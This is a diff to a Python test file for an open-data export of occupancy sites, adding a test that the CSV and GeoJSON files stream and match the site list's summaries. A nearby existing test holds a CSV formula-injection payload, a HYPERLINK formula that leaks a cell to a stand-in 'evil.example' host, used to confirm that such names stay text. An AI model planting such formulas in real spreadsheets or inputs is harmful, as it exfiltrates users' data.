@@ -98,6 +98,32 @@ def test_csv_and_geojson(app, client, world):
     assert "Jean Dupont" not in response.get_data(as_text=True)
 
 
+def test_the_open_data_files_stream_and_sum_up_each_site_as_its_page_does(app, client, world):
+    """The CSV and GeoJSON are streamed (the first bytes leave before the last row is read), and their grouped
+    summary (units, dwellings, occupied, first start, last end, status, duration) is the one of the site list."""
+    from occupancies import queries
+
+    published_world(app, world)
+    for path in ("/open-data/sites.csv", "/open-data/sites.geojson"):
+        response = client.get(path, buffered=False)
+        assert response.is_streamed
+        response.get_data()
+        response.close()
+    for as_of in ("2024-06-01", "2025-06-01", "2026-03-31", "2027-01-01"):
+        with app.test_request_context():
+            filters = queries.SiteFilters.from_args({"as_of": as_of})
+            rows, _ = queries.public_sites(filters, 1, per_page=100)
+            expected = {r.site.id: (r.units, r.dwellings, r.occupied, r.first_start, r.last_end, r.status,
+                                    r.duration) for r in rows}
+            streamed = {}
+            for r in queries.public_site_records(filters):
+                last_end = None if r.open_ended else r.last_end
+                streamed[r.id] = (r.units, r.dwellings, r.occupied, r.first_start, last_end,
+                                  queries.summary_status(r.first_start, last_end, filters.as_of),
+                                  queries.summary_duration(r.first_start, last_end, filters.as_of))
+        assert streamed == expected and len(expected) == 2
+
+
 def test_a_name_typed_as_a_formula_stays_text_in_the_csv(app, client, world):
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
     with app.test_request_context():
